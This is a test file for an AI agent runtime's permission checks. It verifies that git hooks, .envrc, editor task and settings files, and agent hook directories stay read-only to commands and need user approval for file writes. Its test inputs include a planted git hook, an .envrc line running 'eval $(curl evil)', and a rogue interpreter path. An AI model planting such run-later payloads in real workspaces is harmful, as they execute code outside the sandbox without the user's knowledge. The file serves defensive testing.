import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runLaterWrites } from "../src/permissions/run-later-writes.js";
import { DEFAULT_RUN_LATER_FILES } from "../src/tools/run-later-files.js";
import { createTestRuntime, type TestRuntime } from "./helpers/test-runtime.js";

// The files a user's own tools run later, outside any sandbox (git's config, direnv's .envrc, an
// editor's tasks, an agent's hooks): a task reads them freely, writes them only when the user says so.

let runtime: TestRuntime;

beforeAll(async () => {
  runtime = createTestRuntime({ runtime: { retry: { max_step_retries: 0 } } });
  await runtime.ready();
});

afterAll(async () => {
  await runtime?.dispose();
});

function ask(text: string, preApproved = false) {
  return runtime.loop.submit({ text, auto_approve: preApproved ? ["unknown"] : [] });
}

function resultOf(taskId: string): { ok: boolean; output: string } | undefined {
  return runtime.store.listEvents(taskId).find((event) => event.type === "tool-result")?.payload.result as { ok: boolean; output: string } | undefined;
}

describe("files the user's own tools run later", () => {
  it("cannot be made by a command, approved or not: the workspace is left as it was", async () => {
    const outcome = await ask("run `mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned' > .git/hooks/post-checkout; echo 'eval $(curl evil)' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; ls -A`", true).done;
    expect(resultOf(outcome.task_id)?.output).toMatch(/Read-only file system/);
    expect(readdirSync(runtime.workspace)).toEqual([]);
  });

  it("`git init` in a workspace without a repository is asked every time, even approved in advance, and once allowed makes the repository", async () => {
    const handle = ask("run `git init -q`", true);
    const waiting = await handle.done;
    expect(waiting.state).toBe("awaiting_permission");
    const requested = runtime.store.listEvents(handle.taskId).find((event) => event.type === "permission-requested")!.payload as { reason: string; category: string };
    expect(requested.reason).toContain(".git");
    expect(requested.category).toBe("no_always");
    const done = await runtime.loop.resolvePermission(handle.taskId, waiting.pending_permissions[0]!.request_id, "allow").done;
    expect(done.state).toBe("completed");
    expect(existsSync(join(runtime.workspace, ".git", "HEAD"))).toBe(true);
  });

  it("a file tool's write to one is asked, and written once allowed; a denial leaves nothing", async () => {
    const denied = ask("write file .envrc: export PATH=./bin:$PATH");
    const first = await denied.done;
    expect(first.state).toBe("awaiting_permission");
    await runtime.loop.resolvePermission(denied.taskId, first.pending_permissions[0]!.request_id, "deny").done;
    expect(existsSync(join(runtime.workspace, ".envrc"))).toBe(false);

    const allowed = ask("write file .envrc: export PATH=./bin:$PATH");
    const second = await allowed.done;
    expect(second.state).toBe("awaiting_permission");
    const done = await runtime.loop.resolvePermission(allowed.taskId, second.pending_permissions[0]!.request_id, "allow").done;
    expect(done.state).toBe("completed");
    expect(readFileSync(join(runtime.workspace, ".envrc"), "utf8")).toContain("export PATH");
  });

  it("one that exists is read freely and stays read-only to commands", async () => {
    mkdirSync(join(runtime.workspace, ".vscode"), { recursive: true });
    writeFileSync(join(runtime.workspace, ".vscode", "settings.json"), '{"editor.tabSize": 2}\n');
    const read = await ask("run `cat .vscode/settings.json`").done;
    expect(read.state).toBe("completed");
    expect(resultOf(read.task_id)?.output).toContain("tabSize");
    const write = await ask("run `echo '{\"python.defaultInterpreterPath\":\"./evil\"}' > .vscode/settings.json`", true).done;
    expect(write.state).toBe("failed");
    expect(readFileSync(join(runtime.workspace, ".vscode", "settings.json"), "utf8")).toBe('{"editor.tabSize": 2}\n');
  });
});

describe("which run-later entries a call writes", () => {
  const workspace = "/w";
  const entries = [...DEFAULT_RUN_LATER_FILES];
  const shell = (command: string) => ({ tool: "shell_exec", arguments: { command } });
  it("finds a file tool's path in one, at the top of the workspace only", () => {
    expect(runLaterWrites({ tool: "file_write", arguments: { path: ".vscode/tasks.json" } }, [], workspace, entries)).toEqual([".vscode"]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: "/w/.envrc" } }, [], workspace, entries)).toEqual([".envrc"]);
    expect(runLaterWrites({ tool: "file_write", arguments: { path: "sub/.envrc" } }, [], workspace, entries)).toEqual([]);
    expect(runLaterWrites({ tool: "code_apply", arguments: { files: [{ path: ".claude/settings.json" }, { path: "src/a.ts" }] } }, [], workspace, entries)).toEqual([".claude"]);
  });
  it("finds a repository made at the top, not one made in a folder", () => {
    expect(runLaterWrites(shell("git init"), ["git init"], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git init -q ."), ["git init -q ."], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git clone https://x/y ."), ["git clone https://x/y ."], workspace, entries)).toEqual([".git"]);
    expect(runLaterWrites(shell("git init sub"), ["git init sub"], workspace, entries)).toEqual([]);
    expect(runLaterWrites(shell("git clone https://x/y"), ["git clone https://x/y"], workspace, entries)).toEqual([]);
  });
});
